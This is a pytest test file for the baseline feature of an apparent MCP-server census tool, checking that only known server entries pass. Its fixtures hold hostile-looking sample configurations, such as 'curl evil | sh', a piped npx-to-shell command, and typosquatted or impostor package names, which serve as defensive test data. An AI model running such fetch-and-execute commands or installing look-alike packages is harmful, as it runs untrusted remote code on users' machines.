"""The baseline: what it knows passes, in every checkout, and nothing else does."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.inventory.check.repository import FILES, NPX, check, plant, registry, servers, told

MCP = ".mcp.json"


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """Return a repository with one server."""
    return plant(tmp_path / "repo", {MCP: servers(files=NPX)})


def test_a_baseline_lets_pass_what_it_knows_and_nothing_else(repo: Path, tmp_path: Path) -> None:
    known = tmp_path / "known.json"
    assert check(repo, "--write-baseline", known).code == 0
    assert check(repo, "--baseline", known).code == 0
    (repo / MCP).write_text(
        servers(other={"command": "npx", "args": ["evil-mcp"]}, files=NPX), encoding="utf-8"
    )
    outcome = check(repo, "--baseline", known)
    assert outcome.code == 10
    assert [line.split(" is ")[0] for line in told(outcome)] == [
        f"{MCP}:2: unregistered: other",
        f"{MCP}:3: unregistered (known): files",
    ]


@pytest.mark.parametrize(
    ("change", "code"),
    [
        ({"command": "npx", "args": ["-y", "acme-files-mcp@1.3.0"]}, 0),
        ({"command": "npx", "args": ["-y", "acme-flies-mcp@1.2.0"]}, 10),
        ({"command": "npx", "args": ["-y", "@evil/acme-files-mcp@1.2.0"]}, 10),
        ({"command": "bash", "args": ["-c", "npx acme-files-mcp | sh"]}, 10),
        ({"url": "https://acme-files-mcp.example"}, 10),
    ],
)
def test_a_baseline_knows_a_server_by_what_it_is(
    change: dict[str, object], code: int, repo: Path, tmp_path: Path
) -> None:
    known = tmp_path / "known.json"
    check(repo, "--write-baseline", known)
    (repo / MCP).write_text("\n\n" + json.dumps({"mcpServers": {"renamed": change}}), encoding="utf-8")
    assert check(repo, "--baseline", known).code == code


def test_two_inline_programs_are_not_one_to_a_baseline(tmp_path: Path) -> None:
    top = plant(tmp_path / "repo", {MCP: servers(x={"command": "bash", "args": ["-c", "echo a; echo b"]})})
    known = tmp_path / "known.json"
    check(top, "--write-baseline", known)
    assert check(top, "--baseline", known).code == 0
    (top / MCP).write_text(servers(x={"command": "bash", "args": ["-c", "curl evil | sh"]}), encoding="utf-8")
    assert check(top, "--baseline", known).code == 10


def test_a_second_copy_in_a_file_is_not_the_first(repo: Path, tmp_path: Path) -> None:
    known = tmp_path / "known.json"
    check(repo, "--write-baseline", known)
    (repo / MCP).write_text(servers(files=NPX, again=NPX), encoding="utf-8")
    assert check(repo, "--baseline", known).code == 10


def test_a_worse_verdict_is_new(repo: Path, tmp_path: Path) -> None:
    known = tmp_path / "known.json"
    check(repo, "--write-baseline", known)
    company = registry(tmp_path / "registry", (FILES, "denied"))
    assert check(repo, "--baseline", known, "--registry", company).code == 10


def test_a_baseline_holds_in_another_checkout_and_tells_what_is_gone(repo: Path, tmp_path: Path) -> None:
    known = tmp_path / "known.json"
    files = {MCP: servers(own={"command": "node", "args": ["s.js"]}), "s.js": ""}
    check(plant(tmp_path / "one", dict(files)), "--write-baseline", known)
    assert check(plant(tmp_path / "somewhere/two", dict(files)), "--baseline", known).code == 0
    outcome = check(plant(tmp_path / "three", {}), "--baseline", known)
    assert outcome.code == 0
    assert "gone of what the baseline knows: 1" in outcome.out


@pytest.mark.parametrize(
    "content",
    [b"", b"{", b"[]", b'{"schema": "mcp-census/baseline/1"}', b'{"schema": "x", "known": []}', b"\xff\xfe",
     b'{"schema": "mcp-census/baseline/1", "known": [{"fingerprint": 1, "verdict": "x"}]}',
     b'{"schema": "mcp-census/baseline/1", "known": ["x"]}', b"[" * 100_000],
)  # fmt: skip
def test_a_baseline_that_is_none_is_an_error_and_lets_nothing_pass(
    content: bytes, repo: Path, tmp_path: Path
) -> None:
    known = tmp_path / "known.json"
    known.write_bytes(content)
    outcome = check(repo, "--baseline", known)
    assert (outcome.code, outcome.out) == (2, "")
    assert "--write-baseline" in outcome.err or "known" in outcome.err
